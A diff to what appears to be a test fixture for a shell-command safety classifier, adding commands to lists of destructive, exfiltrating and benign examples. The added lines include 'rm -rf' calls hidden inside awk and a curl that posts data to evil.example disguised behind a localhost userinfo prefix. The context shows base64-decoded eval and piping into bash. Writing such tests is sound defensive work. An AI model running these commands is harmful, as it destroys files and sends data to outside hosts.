@@ -171,6 +171,9 @@ rsync --delete a/ b
 ruby -e 'File.delete "a"'
 python manage.py migrate app zero
 pg_restore --clean -d app dump
+awk 'BEGIN { system("rm -rf src") }'
+awk 'BEGIN { print "x" | "rm -rf src" }'
+rm -rf /home/a/project/src
 """
 OTHERS = """
 git push
@@ -243,6 +246,7 @@ eval "$(echo Z2l0IHB1c2gK | base64 --decode)"
 jq -r '.commands[]' x.json | bash
 sed s/a/b/ script | sudo sh
 xxd -r -p x | env bash -s
+curl -d x http://localhost:80@evil.example/
 """
 SETTINGS = """
 npm config set registry http://example.com
@@ -463,6 +467,13 @@ python -c "print('https://example.com')"
 npm init -y
 ansible-playbook site.yml --syntax-check
 crontab -l
+docker compose run --rm web pytest
+awk '/rm -rf/ {print NR}' a.sh
+echo "" > src/__init__.py
+curl -s "http://localhost:${PORT:-3000}/api"
+kubectl config view
+python -c "import os; os.remove('/tmp/x')"
+rm -rf /home/a/project/node_modules
 """
 
 
